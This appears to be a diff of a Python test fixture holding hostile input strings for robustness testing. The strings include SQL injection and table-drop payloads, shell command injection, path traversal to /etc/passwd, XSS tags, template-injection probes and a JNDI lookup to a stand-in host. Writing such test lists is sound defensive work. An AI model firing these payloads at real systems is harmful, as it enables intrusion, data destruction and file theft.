@@ -1,11 +1,11 @@
-"""Texts that break programs: signs nobody sees, orders to other programs, texts far too long (reliability S3, S4)."""
+"""Texts that break programs: signs nobody sees, orders to other programs, texts far too long (reliability S3)."""
 
 import unicodedata
 from itertools import chain
 
 ORDERS = (
     "' OR '1'='1", "'; DROP TABLE evidence_item; --", "\" OR \"\"=\"", "%' --", "_%", "\\", "%00",
-    "1; SELECT pg_sleep(9)", "a' UNION SELECT * FROM audit --", "$$; COPY audit TO '/tmp/x'; $$", "{{7*7}}",
+    "1; SELECT pg_sleep(9)", "a' UNION SELECT * FROM audit --", "$$; COPY audit TO '/etc/x'; $$", "{{7*7}}",
     "{% raw %}", "${7*7}", "#{7*7}", "${jndi:ldap://example.invalid/a}", "{0}", "{0.__class__}", "%s%s%s%n",
     "%(text)s", "$(id)", "`id`", "| id", "&& id", "; id #", "../../../../etc/passwd", "..\\..\\boot.ini",
     "file:///etc/passwd", "//example.invalid/a", "<script>alert(1)</script>", "</textarea><script>x</script>",
